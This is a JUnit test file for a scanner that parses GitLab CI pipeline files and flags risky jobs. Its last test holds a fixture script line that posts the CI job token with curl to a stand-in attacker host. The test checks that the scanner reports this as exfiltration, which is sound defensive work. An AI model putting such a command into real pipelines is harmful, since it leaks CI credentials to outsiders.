package dev.imprint.scan.ci;

import static org.assertj.core.api.Assertions.assertThat;

import dev.imprint.scan.Diagnostic;
import dev.imprint.scan.SourceFile;
import dev.imprint.scan.yaml.YamlNode;
import org.junit.jupiter.api.Test;

class GitlabPipelineReaderTest {

  @Test
  void recognisesGitlabFilesByName() {
    assertThat(GitlabPipelineReader.isGitlabName(".gitlab-ci.yml")).isTrue();
    assertThat(GitlabPipelineReader.isGitlabName("deploy.gitlab-ci.yml")).isTrue();
    assertThat(GitlabPipelineReader.isGitlabName("gitlab.yml")).isFalse();
    assertThat(GitlabPipelineReader.read(SourceFile.of("ci.yml", "job:\n  script: [x]\n")))
        .isEmpty();
  }

  @Test
  void readsJobsDefaultsAndNestedScriptListsWithLines() {
    String text = """
        stages: [build]
        default:
          image: node:20
          before_script:
            - npm ci
        .template:
          script: [echo template]
        build:
          stage: build
          id_tokens:
            TOKEN:
              aud: https://example.com
          script:
            - make
            - - nested one
              - nested two
        """;
    GitlabPipeline p = GitlabPipelineReader.read(SourceFile.of(".gitlab-ci.yml", text))
        .orElseThrow().pipeline();
    assertThat(p.defaults().image().text()).isEqualTo("node:20");
    assertThat(p.defaults().scripts()).extracting(YamlNode::text).containsExactly("npm ci");
    assertThat(p.jobs()).extracting(GitlabJob::name).containsExactly(".template", "build");
    GitlabJob build = p.jobs().get(1);
    assertThat(build.line()).isEqualTo(8);
    assertThat(build.idTokens()).isTrue();
    assertThat(build.scripts()).extracting(YamlNode::text)
        .containsExactly("make", "nested one", "nested two");
    assertThat(build.scripts().get(2).line()).isEqualTo(16);
  }

  @Test
  void malformedPipelineIsAParseError() {
    CiFindings r = CiFindings.of(".gitlab-ci.yml", "build:\n  script:\n    - \"make\n  x: [\n");
    assertThat(r.diagnostics).singleElement()
        .satisfies(d -> assertThat(d.kind()).isEqualTo(Diagnostic.Kind.PARSE_ERROR));
  }

  @Test
  void jobTokenSentToTheGitlabApiIsNotExfiltration() {
    String text = """
        publish:
          script:
            - 'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" --data "x=$CI_JOB_TOKEN" "$CI_API_V4_URL/p"'
            - curl -d "t=$CI_JOB_TOKEN" https://evil.example.net/
        """;
    assertThat(CiFindings.of(".gitlab-ci.yml", text).at("IMP-GITLAB-005"))
        .containsExactly("4:18");
  }
}
